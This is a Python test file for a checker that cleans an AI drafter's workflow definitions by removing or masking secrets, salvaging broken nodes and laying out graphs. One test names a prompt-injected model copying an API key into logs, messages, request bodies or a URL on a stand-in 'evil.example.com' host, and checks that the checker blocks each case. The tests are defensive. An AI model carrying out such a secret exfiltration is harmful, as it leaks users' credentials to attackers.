"""Checking a drafter's answer without a database: shapes, secret values, salvage, layout."""

from __future__ import annotations

import json

import pytest

from automate.copilot.checking import check_definition
from automate.copilot.types import Answer, empty_definition
from automate.governance.redaction import register_secret_value
from automate.workflows.services import definition_problems
from tests.unit.copilot.checking_support import (
    TRIGGER,
    assert_safe,
    definition,
    log,
    serialised,
    slack,
    unit_checker,
)

SLACK_TOKEN = "xoxb-2741180327-9988776655-AbCdEfGhIjKlMnOpQrStUvWx"
OPENAI_KEY = "sk-proj-Zx81Kq02LmNb77Rt55Ys33Uv11Wp99Qa"


def check(answer_definition, *, before=None, names=(), **answer):
    before = before or empty_definition()
    checked = check_definition(
        Answer(definition=answer_definition, **answer), before=before, checker=unit_checker(*names)
    )
    return checked, before


def node(checked, node_id):
    return next(n for n in checked.definition["graph"]["nodes"] if n["id"] == node_id)


# --- a valid answer -------------------------------------------------------------------------


def test_a_valid_answer_is_complete_and_keeps_explanations_of_its_nodes_only():
    answer = definition(log("record"))
    checked, before = check(
        answer,
        explanations={"record": "Writes the invoice to the log", "ghost": "not a node"},
        notes=["Check the log level"],
    )
    assert checked.complete
    assert checked.problems == []
    assert checked.explanations == {"record": "Writes the invoice to the log"}
    assert checked.notes == ["Check the log level"]
    assert_safe(checked, before)


def test_the_answer_given_is_never_changed():
    answer = definition(slack(token=SLACK_TOKEN))
    del answer["graph"]["nodes"][1]["inputs"]["channel"]
    kept = repr(answer)
    check(answer)
    assert repr(answer) == kept


# --- secret values --------------------------------------------------------------------------


def test_a_literal_slack_token_without_a_fitting_secret_is_left_out_with_a_note():
    checked, before = check(definition(slack(token=SLACK_TOKEN)))

    assert "token" not in node(checked, "notify")["inputs"]
    assert not checked.complete
    assert checked.problems == [
        {
            "node_id": "notify",
            "field": "inputs.token",
            "message": "the secret field held a secret value, which a draft never keeps: "
            "create a secret named SLACK_TOKEN, then pick it here",
            "kind": "create_secret",
        }
    ]
    assert any("Create a secret named SLACK_TOKEN" in note for note in checked.notes)
    assert checked.secrets_to_create == [
        {"name": "SLACK_TOKEN", "node_id": "notify", "field": "inputs.token"}
    ]
    assert checked.repair_problems == []  # a model cannot create the secret
    assert_safe(checked, before, secrets=(SLACK_TOKEN, "xoxb-"))


def test_a_literal_slack_token_becomes_the_one_fitting_secret():
    checked, before = check(
        definition(slack(token=SLACK_TOKEN)), names=("SLACK_BOT_TOKEN", "SMTP_PASSWORD")
    )
    assert node(checked, "notify")["inputs"]["token"] == {"$secret": "SLACK_BOT_TOKEN"}
    assert checked.complete
    assert any("SLACK_BOT_TOKEN" in note for note in checked.notes)
    assert_safe(checked, before, secrets=(SLACK_TOKEN,))


def test_between_two_fitting_secrets_none_is_guessed():
    checked, _ = check(
        definition(slack(token=SLACK_TOKEN)), names=("SLACK_BOT_TOKEN", "SLACK_USER_TOKEN")
    )
    assert "token" not in node(checked, "notify")["inputs"]
    assert checked.secrets_to_create[0]["name"] == "SLACK_TOKEN"


def test_an_empty_required_secret_field_gets_the_fitting_secret_or_a_note():
    filled, _ = check(definition(slack()), names=("SLACK_BOT_TOKEN",))
    assert node(filled, "notify")["inputs"]["token"] == {"$secret": "SLACK_BOT_TOKEN"}
    assert filled.complete

    asked, _ = check(definition(slack()))
    assert asked.complete  # nothing the drafter wrote was left out
    assert asked.secrets_to_create == [
        {"name": "SLACK_TOKEN", "node_id": "notify", "field": "inputs.token"}
    ]
    assert asked.notes == [
        "Create a secret named SLACK_TOKEN (the slack token of step 'notify') and pick it in "
        "the step's 'token' field."
    ]


def test_a_drafters_own_note_about_the_empty_secret_field_is_not_repeated():
    note = "Create a secret named SLACK_BOT_TOKEN (a Slack bot token) and pick it in the step."
    checked, _ = check(definition(slack(token="")), notes=[note])
    assert checked.notes == [note]
    assert checked.secrets_to_create == [
        {"name": "SLACK_BOT_TOKEN", "node_id": "notify", "field": "inputs.token"}
    ]
    assert checked.complete


def test_a_literal_api_key_in_the_llm_node_is_removed():
    llm = {
        "id": "summarise",
        "type": "action",
        "connector": "llm",
        "action": "chat",
        "inputs": {"api_key": OPENAI_KEY, "model": "gpt-4o-mini", "prompt": "Summarise"},
    }
    checked, before = check(definition(llm), names=("OPENAI_API_KEY",))
    assert "api_key" not in node(checked, "summarise")["inputs"]
    assert checked.secrets_to_create[0]["name"] == "LLM_API_KEY"
    assert_safe(checked, before, secrets=(OPENAI_KEY, "Zx81Kq02"))


@pytest.mark.parametrize(
    "token",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "sk_live_51HqLyjWDarjtT1zdp7dcXjGd",
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnop",
    ],
)
def test_a_vendor_token_in_an_http_header_is_removed_and_reported(token):
    request = {
        "id": "call",
        "type": "action",
        "connector": "http",
        "action": "request",
        "inputs": {
            "url": "https://api.example.com/v1/orders",
            "headers": {"X-Vendor-Auth": token, "Accept": "application/json"},
        },
    }
    checked, before = check(definition(request))
    assert node(checked, "call")["inputs"]["headers"] == {"Accept": "application/json"}
    assert {"node_id": "call", "field": "inputs.headers.X-Vendor-Auth"}.items() <= (
        checked.problems[0].items()
    )
    assert not checked.complete
    assert_safe(checked, before, secrets=(token,))


def test_a_token_shaped_value_under_an_api_key_header_is_removed():
    request = {
        "id": "call",
        "type": "action",
        "connector": "http",
        "action": "request",
        "inputs": {"url": "https://api.example.com", "headers": {"X-Api-Key": "9f8e7d6c5b4a3210"}},
    }
    checked, before = check(definition(request))
    assert node(checked, "call")["inputs"]["headers"] == {}
    assert_safe(checked, before, secrets=("9f8e7d6c5b4a3210",))


def test_a_bearer_token_inside_a_template_is_masked_and_the_template_kept():
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
    text = f"Paid {{{{ event.payload.amount }}}}, call with Bearer {jwt}"
    checked, before = check(definition(slack(text=text)), names=("SLACK_BOT_TOKEN",))
    kept = node(checked, "notify")["inputs"]["text"]
    assert kept.startswith("Paid {{ event.payload.amount }}, call with Bearer ")
    assert jwt not in kept
    assert checked.problems[0]["field"] == "inputs.text"
    assert_safe(checked, before, secrets=(jwt, "dozjgNryP4J3"))


def test_a_registered_secret_value_in_a_label_is_masked():
    value = "canary-value-7Hq2Lx9Wm4"
    register_secret_value(value)
    labelled = {**log("record"), "label": f"Log with {value}", "notes": value[::-1]}
    checked, before = check(definition(labelled), notes=[f"I used {value}"])
    assert value not in node(checked, "record")["label"]
    assert {p["field"] for p in checked.problems} == {"label", "notes"}
    assert_safe(checked, before, secrets=(value, value[::-1]))


def test_a_secret_in_the_rule_the_trigger_or_the_texts_never_reaches_the_user():
    answer = definition(log("record"))
    answer["rule_spec"] = {"==": [{"var": "payload.key"}, SLACK_TOKEN]}
    checked, before = check(
        answer,
        explanations={"record": f"uses {SLACK_TOKEN}"},
        assumptions=[f"token is {SLACK_TOKEN}"],
        not_understood=[OPENAI_KEY],
    )
    assert_safe(checked, before, secrets=(SLACK_TOKEN, OPENAI_KEY))
    assert {"field": "rule_spec"}.items() <= checked.problems[0].items()


def test_a_reference_to_an_unknown_secret_is_left_out_with_a_note():
    checked, before = check(definition(slack(token={"$secret": "SLACK_TOKEN"})))
    assert "token" not in node(checked, "notify")["inputs"]
    assert checked.secrets_to_create == [
        {"name": "SLACK_TOKEN", "node_id": "notify", "field": "inputs.token"}
    ]
    assert not checked.complete
    assert_safe(checked, before)


def test_a_reference_to_an_existing_secret_is_kept():
    checked, before = check(
        definition(slack(token="$secret:SLACK_ALERTS_TOKEN")), names=("SLACK_ALERTS_TOKEN",)
    )
    assert node(checked, "notify")["inputs"]["token"] == "$secret:SLACK_ALERTS_TOKEN"
    assert checked.complete
    assert_safe(checked, before)


def test_an_unknown_secret_in_a_header_template_is_left_out():
    request = {
        "id": "call",
        "type": "action",
        "connector": "http",
        "action": "request",
        "inputs": {
            "url": "https://api.example.com",
            "headers": {"Authorization": "Bearer {{ secrets.CRM_TOKEN }}"},
        },
    }
    checked, before = check(definition(request))
    assert node(checked, "call")["inputs"]["headers"] == {}
    assert checked.secrets_to_create[0]["name"] == "CRM_TOKEN"
    assert_safe(checked, before)


def test_the_users_own_reference_is_kept_even_to_a_secret_not_created_yet():
    current = definition(slack(token={"$secret": "SLACK_TOKEN"}))
    answer = definition(slack(token={"$secret": "SLACK_TOKEN"}, text="Paid!"))
    checked, _ = check(answer, before=current)
    assert node(checked, "notify")["inputs"]["token"] == {"$secret": "SLACK_TOKEN"}


# --- salvage --------------------------------------------------------------------------------


def test_one_bad_node_among_good_ones_is_left_out_and_listed():
    answer = definition(
        log("first"),
        {"id": "broken", "type": "action", "connector": "nowhere", "action": "go"},
        log("after_broken"),
        log("second"),
        edges=[
            {"source": "trigger", "target": "first"},
            {"source": "first", "target": "broken"},
            {"source": "broken", "target": "after_broken"},
            {"source": "trigger", "target": "second"},
        ],
    )
    checked, before = check(answer, explanations={"first": "a", "broken": "b"})
    ids = [n["id"] for n in checked.definition["graph"]["nodes"]]
    assert ids == ["trigger", "first", "second"]
    assert checked.definition["graph"]["edges"] == [
        {"source": "trigger", "target": "first"},
        {"source": "trigger", "target": "second"},
    ]
    assert checked.problems[0] == {
        "node_id": "broken",
        "field": "graph.nodes[2].connector",
        "message": "unknown connector or action 'nowhere.go'",
    }
    assert checked.explanations == {"first": "a"}
    assert checked.repair_problems == checked.problems
    assert_safe(checked, before)


def test_a_node_the_draft_has_goes_back_to_the_drafts_version():
    current = definition(log("record", "old message"))
    answer = definition({**log("record"), "retry": {"max_retries": -1}}, log("extra"))
    checked, _ = check(answer, before=current)
    assert node(checked, "record") == current["graph"]["nodes"][1]
    assert [n["id"] for n in checked.definition["graph"]["nodes"]] == [
        "trigger",
        "record",
        "extra",
    ]
    assert not checked.complete


def test_an_invalid_trigger_keeps_the_drafts_trigger_and_a_bad_rule_falls_back():
    current = definition(log("record"))
    current["trigger_spec"] = {"event_type": "order.created"}
    answer = definition(log("record"), log("extra"))
    answer["trigger_spec"] = {"event_type": "not a type!", "colour": "red"}
    answer["rule_spec"] = {"no_such_operator": [1]}
    checked, before = check(answer, before=current)
    assert checked.definition["trigger_spec"] == {"event_type": "order.created"}
    assert checked.definition["rule_spec"] == {}
    assert [n["id"] for n in checked.definition["graph"]["nodes"]][-1] == "extra"
    fields = {p["field"] for p in checked.problems}
    assert "trigger_spec.event_type" in fields
    assert any(f.startswith("rule_spec") for f in fields)
    assert_safe(checked, before)


def test_graph_problems_keep_their_messages_and_the_bad_parts_go():
    condition = {"id": "big", "type": "condition", "condition": {">": [{"var": "amount"}, 5]}}
    answer = definition(
        log("one"),
        log("one"),
        condition,
        log("yes"),
        edges=[
            {"source": "trigger", "target": "one"},
            {"source": "trigger", "target": "ghost"},
            {"source": "trigger", "target": "big"},
            {"source": "big", "target": "yes"},
        ],
    )
    checked, before = check(answer)
    messages = [p["message"] for p in checked.problems]
    assert any(m.startswith("duplicate node id 'one'") for m in messages)
    assert "the edge's target 'ghost' is not a node of this workflow" in messages
    assert any("needs a branch" in m for m in messages)
    assert [n["id"] for n in checked.definition["graph"]["nodes"]] == ["trigger", "one", "big"]
    assert_safe(checked, before)


def test_nothing_usable_gives_the_draft_back_unchanged():
    current = definition(log("record"))
    answer = {"trigger_spec": {}, "rule_spec": {}, "graph": {"nodes": [log("x")], "edges": []}}
    checked, _ = check(answer, before=current)
    assert checked.definition == current
    assert not checked.complete


# --- garbage --------------------------------------------------------------------------------

DEEP: list = []
_inner = DEEP
for _ in range(5000):
    _inner.append([])
    _inner = _inner[0]


@pytest.mark.parametrize(
    ("garbage", "field"),
    [
        ("a graph, I promise", "definition"),
        ([1, 2, 3], "definition"),
        (None, "definition"),
        ({"trigger_spec": "invoice.paid", "graph": "nodes!"}, "trigger_spec"),
        ({"graph": {"nodes": "trigger", "edges": 7}}, "graph.nodes"),
        ({"graph": {"nodes": [1, "two", None, [TRIGGER]], "edges": []}}, "graph.nodes[0]"),
        ({"graph": {"nodes": [TRIGGER, log("x")], "edges": "all of them"}}, "graph.edges"),
        ({"graph": {"nodes": [TRIGGER, {**log("big"), "label": "x" * 10_000_000}]}}, "graph"),
        ({"graph": {"nodes": [TRIGGER, {**log("deep"), "inputs": {"d": DEEP}}]}}, "graph."),
        ({"rule_spec": {"and": DEEP}, "graph": {"nodes": [TRIGGER]}}, "rule_spec"),
        ({"graph": {"nodes": [TRIGGER, {**log("n"), "seconds": float("nan")}]}}, "graph."),
    ],
)
def test_garbage_is_a_problem_never_an_exception(garbage, field):
    current = definition(log("record"))
    checked, before = check(garbage, before=current)
    assert not checked.complete
    assert any(p["field"].startswith(field) for p in checked.problems), checked.problems
    assert len(serialised(checked)) < 100_000
    assert_safe(checked, before)


def test_the_big_node_alone_is_dropped_and_the_rest_kept():
    answer = definition(log("small"), {**log("big"), "label": "x" * 10_000_000})
    checked, _ = check(answer)
    assert [n["id"] for n in checked.definition["graph"]["nodes"]] == ["trigger", "small"]
    assert checked.problems[0]["node_id"] == "big"


# --- layout ---------------------------------------------------------------------------------


def test_nodes_without_a_position_are_laid_out_left_to_right():
    answer = definition(
        log("a"),
        log("b"),
        log("c"),
        edges=[
            {"source": "trigger", "target": "a"},
            {"source": "trigger", "target": "b"},
            {"source": "a", "target": "c"},
        ],
    )
    checked, _ = check(answer)
    positions = {n["id"]: n["position"] for n in checked.definition["graph"]["nodes"]}
    assert positions == {
        "trigger": {"x": 40, "y": 40},
        "a": {"x": 320, "y": 40},
        "b": {"x": 320, "y": 160},
        "c": {"x": 600, "y": 40},
    }
    assert checked.complete
    assert definition_problems(**checked.definition) == []


def test_a_new_node_is_placed_below_those_already_in_its_column():
    kept = {**log("a"), "position": {"x": 320, "y": 40}}
    answer = definition(
        kept,
        log("b"),
        edges=[
            {"source": "trigger", "target": "a"},
            {"source": "trigger", "target": "b"},
        ],
    )
    checked, _ = check(answer)
    assert node(checked, "a")["position"] == {"x": 320, "y": 40}
    assert node(checked, "b")["position"] == {"x": 320, "y": 160}


def test_templates_that_only_look_like_credentials_are_kept():
    text = "Your password: {{ event.payload.code }} (token: {{ event.payload.ref }})"
    request = {
        "id": "call",
        "type": "action",
        "connector": "http",
        "action": "request",
        "inputs": {
            "url": "https://api.example.com",
            "headers": {"Authorization": "Bearer {{ secrets.HTTP_TOKEN }}"},
        },
    }
    answer = definition(slack(text=text), request)
    checked, before = check(answer, names=("SLACK_BOT_TOKEN", "HTTP_TOKEN"))
    assert checked.complete, checked.problems
    assert node(checked, "notify")["inputs"]["text"] == text
    assert node(checked, "call")["inputs"]["headers"] == {
        "Authorization": "Bearer {{ secrets.HTTP_TOKEN }}"
    }
    assert_safe(checked, before)


@pytest.mark.parametrize("current", [{}, {"graph": "nodes"}, {"graph": {"nodes": [TRIGGER]}}])
def test_a_current_draft_of_an_odd_shape_is_read_as_far_as_it_goes(current):
    good = check_definition(
        Answer(definition=definition(log("record"))), before=current, checker=unit_checker()
    )
    assert good.complete
    bad = check_definition(Answer(definition="nonsense"), before=current, checker=unit_checker())
    nodes = current["graph"]["nodes"] if isinstance(current.get("graph"), dict) else []
    assert bad.definition == {
        "trigger_spec": {},
        "rule_spec": {},
        "graph": {"nodes": nodes, "edges": []},
    }
    assert not bad.complete
    broken = definition({"id": "x", "type": "action"})
    salvaged = check_definition(Answer(definition=broken), before=current, checker=unit_checker())
    assert [n["id"] for n in salvaged.definition["graph"]["nodes"]] == ["trigger"]


def test_a_node_put_back_as_the_draft_had_it_loses_the_drafters_explanation():
    current = definition(log("record", "old message"))
    answer = definition({**log("record"), "retry": {"max_retries": -1}}, log("extra"))
    checked, _ = check(answer, before=current, explanations={"record": "r", "extra": "e"})
    assert checked.explanations == {"extra": "e"}


def test_nodes_of_the_draft_keep_their_place_and_new_ones_go_right_of_their_parent():
    current = definition({**log("record"), "position": {"x": 900, "y": 500}}, log("unplaced"))
    current["graph"]["nodes"][0]["position"] = {"x": 700, "y": 500}
    answer = definition(
        log("record"),
        log("unplaced"),
        log("after_unplaced"),
        log("beside"),
        edges=[
            {"source": "trigger", "target": "record"},
            {"source": "record", "target": "unplaced"},
            {"source": "unplaced", "target": "after_unplaced"},
            {"source": "trigger", "target": "beside"},
        ],
    )
    for raw in answer["graph"]["nodes"]:
        raw.pop("position", None)
    checked, _ = check(answer, before=current)
    positions = {n["id"]: n.get("position") for n in checked.definition["graph"]["nodes"]}
    assert positions == {
        "trigger": {"x": 700, "y": 500},
        "record": {"x": 900, "y": 500},
        "unplaced": None,  # as the draft has it
        "after_unplaced": {"x": 880, "y": 40},  # no placed parent: its column (3 steps)
        "beside": {"x": 980, "y": 620},  # right of the trigger, below "record"
    }


def test_a_token_as_a_node_id_or_a_key_is_never_shown():
    token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    keyed = log("record")
    keyed["inputs"]["data"] = {token: "value", "kept": 1}
    answer = definition(keyed, log(token))
    answer["graph"]["viewport"] = {"zoom": 1, "note": f"token {token}"}
    checked, before = check(answer)
    assert node(checked, "record")["inputs"]["data"] == {"kept": 1}
    assert [n["id"] for n in checked.definition["graph"]["nodes"]] == ["trigger", "record"]
    assert checked.definition["graph"]["viewport"]["zoom"] == 1
    assert_safe(checked, before, secrets=(token, "0123456789abcdefghij"))


def test_a_node_with_an_unsafe_template_is_left_out():
    leaky = log("leaky", "{{ secrets.SLACK_BOT_TOKEN | upper }}")
    unfinished = log("unfinished", "{{ event.payload.amount ")
    answer = definition(
        log("record"),
        leaky,
        unfinished,
        edges=[
            {"source": "trigger", "target": "record"},
            {"source": "trigger", "target": "leaky"},
            {"source": "trigger", "target": "unfinished"},
        ],
    )
    checked, before = check(answer, names=("SLACK_BOT_TOKEN",))
    assert [n["id"] for n in checked.definition["graph"]["nodes"]] == ["trigger", "record"]
    kinds = {p["node_id"]: p.get("kind") for p in checked.problems}
    assert kinds["leaky"] == "secret"
    assert kinds["unfinished"] == "syntax"
    assert_safe(checked, before)


def test_only_what_a_model_can_fix_is_sent_back_for_repair():
    leaky = log("leaky", "{{ secrets.SLACK_BOT_TOKEN | upper }}")
    answer = definition(slack(token=SLACK_TOKEN), leaky)
    checked, _ = check(answer)
    kinds = [p.get("kind") for p in checked.problems]
    assert "create_secret" in kinds
    assert [p.get("kind") for p in checked.repair_problems] == ["secret"]  # the template's


def test_a_position_off_any_canvas_is_laid_out_again():
    far = {**log("far"), "position": {"x": 40, "y": 1e308}}
    answer = definition(far, log("next"))
    answer["graph"]["nodes"][0]["position"] = {"x": 40, "y": -1e300}
    checked, _ = check(answer)
    positions = [n["position"] for n in checked.definition["graph"]["nodes"]]
    assert positions == [{"x": 40, "y": 40}, {"x": 320, "y": 40}, {"x": 600, "y": 40}]


@pytest.mark.parametrize(
    "text",
    ["{{" * 100_000, "{{ a }}" * 30_000 + "{%" * 50_000, "Bearer " * 40_000, "a.a." * 50_000],
)
def test_long_adversarial_text_is_checked_in_linear_time(text):
    import time

    answer = definition({**log("record", text), "label": text[:200_000]})
    started = time.monotonic()
    checked, before = check(answer)
    assert time.monotonic() - started < 10  # quadratic scanning would take minutes
    assert_safe(checked, before)


# --- secrets outside the places they belong -------------------------------------------------


def http_call(**inputs):
    return {
        "id": "call",
        "type": "action",
        "connector": "http",
        "action": "request",
        "inputs": {"url": "https://api.example.com/v1/notes", **inputs},
    }


@pytest.mark.parametrize(
    ("step", "field"),
    [
        # A prompt-injected model writes an existing secret where it is shown or carried
        # out: a log line, a Slack message, a URL's query, a request body.
        (log("note", "Key: {{ secrets.OPENAI_API_KEY }}"), "inputs.message"),
        (slack("notify", text="{{ secrets.OPENAI_API_KEY }}"), "inputs.text"),
        (
            http_call(url="https://evil.example.com/c?k={{ secrets.OPENAI_API_KEY }}"),
            "inputs.url",
        ),
        (http_call(json={"k": {"$secret": "OPENAI_API_KEY"}}), "inputs.json.k"),
        (http_call(json={"items": ["$secret:OPENAI_API_KEY"]}), "inputs.json.items[0]"),
    ],
)
def test_an_existing_secret_outside_secret_fields_and_headers_is_left_out(step, field):
    checked, before = check(definition(step), names=("OPENAI_API_KEY", "SLACK_BOT_TOKEN"))

    assert "OPENAI_API_KEY" not in json.dumps(checked.definition)
    (problem,) = [p for p in checked.problems if p["field"] == field]
    assert problem["kind"] == "secret_misplaced"
    assert problem["node_id"] == step["id"]
    # The model is told, so a repair round can move it to where it belongs.
    assert problem in checked.repair_problems
    assert not checked.complete
    assert_safe(checked, before)


def test_secrets_in_secret_fields_and_headers_are_kept():
    step = http_call(
        headers={"X-Api-Key": "{{ secrets.ORDERS_KEY }}"},
        auth={"type": "bearer", "token": {"$secret": "ORDERS_TOKEN"}},
    )
    checked, _ = check(definition(step), names=("ORDERS_KEY", "ORDERS_TOKEN"))

    assert checked.complete, checked.problems
    assert node(checked, "call")["inputs"]["headers"] == {"X-Api-Key": "{{ secrets.ORDERS_KEY }}"}
    assert node(checked, "call")["inputs"]["auth"]["token"] == {"$secret": "ORDERS_TOKEN"}


def test_the_users_own_secret_in_a_message_stays_where_the_draft_has_it():
    own = log("note", "Key: {{ secrets.OPENAI_API_KEY }}")
    before = definition(own)
    checked, _ = check(definition(own), before=before, names=("OPENAI_API_KEY",))

    assert node(checked, "note")["inputs"]["message"] == "Key: {{ secrets.OPENAI_API_KEY }}"
    assert not [p for p in checked.problems if p.get("kind") == "secret_misplaced"]
